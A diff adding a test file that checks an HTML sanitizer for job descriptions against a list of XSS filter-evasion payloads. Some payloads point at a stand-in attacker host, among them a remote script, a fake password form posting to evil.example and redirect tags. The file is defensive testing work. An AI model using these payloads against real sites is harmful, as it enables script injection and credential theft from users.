@@ -1,0 +1,90 @@
+import { describe, expect, it } from 'vitest';
+import { cleanHtml } from '../../../functions/feed/job-html.ts';
+import { random } from '../../support/random.ts';
+
+/** Ways to make a browser run something, most of them from the OWASP cheat sheet on XSS filter evasion. */
+const hostile = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href="java\nscript:alert(1)">x</a>',
+  '<a href="java&#x0A;script:alert(1)">x</a>',
+  '<a href=" &#14; javascript:alert(1)">x</a>',
+  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<a href="/admin">x</a>',
+  '<a href="http://plain.example">x</a>',
+  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed" target="_top">x</a>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<div onmouseover="alert(1)" id="root" class="ant-btn" data-x="1">x</div>',
+  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
+  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<link rel=stylesheet href="https://evil.example/x.css"><style>*{display:none}</style>',
+  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<textarea></textarea><script>alert(1)</script>',
+  '<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>',
+  '<b/onclick=alert(1)//>x<b <script>alert(1)</script>',
+  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
+  '<details open ontoggle=alert(1)><marquee onstart=alert(1)>',
+  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
+];
+
+/** Tags and attributes that may be left, and nothing else. */
+const allowedTag =
+  /^<\/?(?:p|br ?\/?|hr ?\/?|div|span|blockquote|pre|code|h[1-6]|b|strong|i|em|u|s|small|sub|sup|ul|ol|li|dl|dt|dd|table|caption|thead|tbody|tfoot|tr|th|td|a)>$|^<a href="(?:https:|mailto:|tel:)[^"<>]*" rel="noopener noreferrer nofollow">$/;
+
+function expectHarmless(html: string): void {
+  for (const [tag] of html.matchAll(/<[^>]*>?/g)) expect(tag, html).toMatch(allowedTag);
+}
+
+describe('the description of a job', () => {
+  it.each(hostile)('comes out harmless: %s [J07] [R23]', (vector) => {
+    expectHarmless(cleanHtml(vector));
+    expectHarmless(cleanHtml(`<p>${vector}</p>`));
+    expect(cleanHtml(cleanHtml(vector))).toBe(cleanHtml(vector));
+  });
+
+  it('comes out harmless however the vectors are put together [R23]', () => {
+    const dice = random(23);
+    for (let round = 0; round < 500; round++) {
+      const parts = Array.from({ length: 1 + dice.whole(4) }, () => {
+        const vector = dice.pick(hostile);
+        return vector.slice(dice.whole(5), vector.length - dice.whole(5));
+      });
+      expectHarmless(cleanHtml(parts.join(dice.pick(['', '"', '<', '>', '<p>']))));
+    }
+  });
+
+  it('keeps paragraphs, lists, tables and links, and marks links as not ours', () => {
+    expect(cleanHtml('<p>Nights in <b>Oakville</b></p><ul><li>BLS &amp; ACLS</li></ul>')).toBe(
+      '<p>Nights in <b>Oakville</b></p><ul><li>BLS &amp; ACLS</li></ul>',
+    );
+    expect(cleanHtml('<a href="https://ok.example/x?a=1&b=2" rel="opener">x</a>')).toBe(
+      '<a href="https://ok.example/x?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a>',
+    );
+    expect(cleanHtml('<a href="mailto:jobs@ok.example">m</a><a href="tel:+15550100">t</a>')).toContain(
+      'href="tel:+15550100"',
+    );
+    expect(cleanHtml('Just text, 100% plain.\nTwo lines.')).toBe('Just text, 100% plain.\nTwo lines.');
+    expect(cleanHtml('ratio 1 < 2 & more')).toBe('ratio 1 &lt; 2 &amp; more');
+  });
+
+  it('takes no long time for markup that is nested without end', () => {
+    const started = performance.now();
+    expectHarmless(cleanHtml('<div>'.repeat(10_000)));
+    expectHarmless(cleanHtml('<'.repeat(50_000)));
+    expectHarmless(cleanHtml('<a href="'.repeat(5_000)));
+    expect(performance.now() - started).toBeLessThan(5_000);
+  });
+});
